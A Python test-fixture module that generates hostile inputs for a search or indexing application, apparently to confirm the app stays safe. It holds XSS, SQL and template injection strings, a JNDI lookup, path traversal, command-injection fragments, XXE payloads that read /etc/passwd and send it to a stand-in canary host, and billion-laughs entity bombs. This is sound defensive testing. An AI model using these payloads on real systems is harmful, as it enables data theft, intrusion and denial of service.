"""Hostile strings and XML payloads for the hostile-file corpus (written by hand, no downloads).

The naughty strings follow the big-list-of-naughty-strings categories: markup and script, SQL and
FTS syntax, format and template strings, paths, control and invisible characters, right-to-left
overrides, combining marks, emoji, and words that mean something to a program.
"""

from __future__ import annotations

PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:x:1:1")
"""Text that would only be in the index if an external entity had been resolved."""

NAUGHTY = (
    "<script>window.__xss = 11</script>",
    '"><img src=x onerror="window.__xss = 12">',
    "'><svg onload=window.__xss=13>",
    "<iframe src=javascript:window.__xss=14></iframe>",
    "javascript:window.__xss=15",
    '<a href="javascript:window.__xss=16">klik</a>',
    "<body onload=window.__xss=17>",
    "<details open ontoggle=window.__xss=18>",
    "{{constructor.constructor('window.__xss=19')()}}",
    "${{7*7}} {{7*7}} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://canary.wegwijs.invalid/a}",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    "NEAR(a b) AND OR NOT * ^ chunks_fts:",
    '"unterminated',
    "%s%s%s%n%x%d{0}{}{!r}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "\\\\server\\share\\x",
    "file:///etc/passwd",
    "<!-- x --> ]]> <![CDATA[ x ]]>",
    "&lt;script&gt;window.__xss=20&lt;/script&gt;",
    "\u202eexe.txt",
    "\u200b\u200c\u200d\ufeff zero width",
    "Z̷̢̛a̸̡̛l̶̢̛g̷̨̛o̶̢̊ t̸̡̛e̵̢̛x̷̢̛t̶̨̛",
    "田中さんにあげて下さい",
    "مرحبا بالعالم",
    "שָׁלוֹם עוֹלָם",
    "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤 𝐛𝐫𝐨𝐰𝐧 𝐟𝐨𝐱",
    "😀🙈👨‍👩‍👧‍👦🏳️‍🌈",
    "Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ",
    "null undefined NaN None nil true false",
    "-1 0 0x0 1e309 -0.0 99999999999999999999",
    "\x01\x02\x07\x1b[31mred\x1b[0m",
    "tab\there\rcarriage\x0bvt\x0cff",
    "ＡＢＣ１２３ fullwidth",
    "ǅǈǋ titlecase dž",
    "${PATH} $(id) `id` | id ; id",
    "<?php echo 1; ?>",
    "\ud7ff\ue000\uffff",
    "x" * 300,
    "Robert'); DROP TABLE Students;--",
    "COM1 CON PRN AUX NUL LPT1",
    '<math><mi xlink:href="javascript:window.__xss=21">x</mi></math>',
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=http://canary.wegwijs.invalid/>",
)
"""Strings for names, titles, properties and bodies; none may ever run as script."""

FILE_NAME_UNSAFE = str.maketrans({"/": "_", "\x00": "_"})


def naughty_file_stem(index: int) -> str:
    """A file stem built from a naughty string (no ``/`` or NUL, under 200 bytes)."""
    text = NAUGHTY[index % len(NAUGHTY)].translate(FILE_NAME_UNSAFE)
    stem = f"n{index:03d} {text}"
    while len(stem.encode()) > 180:
        stem = stem[:-1]
    return stem


def xml_escape(text: str) -> str:
    """Escape text for an XML text node, dropping characters XML 1.0 forbids."""
    allowed = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20)
    allowed = "".join(ch for ch in allowed if not 0xD800 <= ord(ch) <= 0xDFFF)
    return allowed.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xxe_doctypes(root: str, canary: str) -> list[tuple[str, str]]:
    """DOCTYPE declarations and the reference that uses them, per XXE technique."""
    return [
        (f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        (f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>', "&xxe;"),
        (f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{canary}/entity">]>', "&xxe;"),
        (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{canary}/param.dtd"> %p;]>',
            "",
        ),
        (f'<!DOCTYPE {root} SYSTEM "{canary}/external.dtd">', ""),
        (
            f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "file:///etc/passwd">'
            f"<!ENTITY % d \"<!ENTITY e SYSTEM '{canary}/?%f;'>\"> %d;]>",
            "&e;",
        ),
        (
            f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "http://canary.wegwijs.invalid/x">]>',
            "&xxe;",
        ),
    ]


def billion_laughs(root: str, depth: int = 10) -> tuple[str, str]:
    """The classic exponential entity expansion, and the reference that sets it off."""
    lines = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    lines += [f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, depth)]
    return f"<!DOCTYPE {root} [{''.join(lines)}]>", f"&lol{depth - 1};"


def quadratic_blowup(root: str) -> tuple[str, str]:
    """One large entity referenced many times (no nesting, still huge when expanded)."""
    return f'<!DOCTYPE {root} [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 2_000
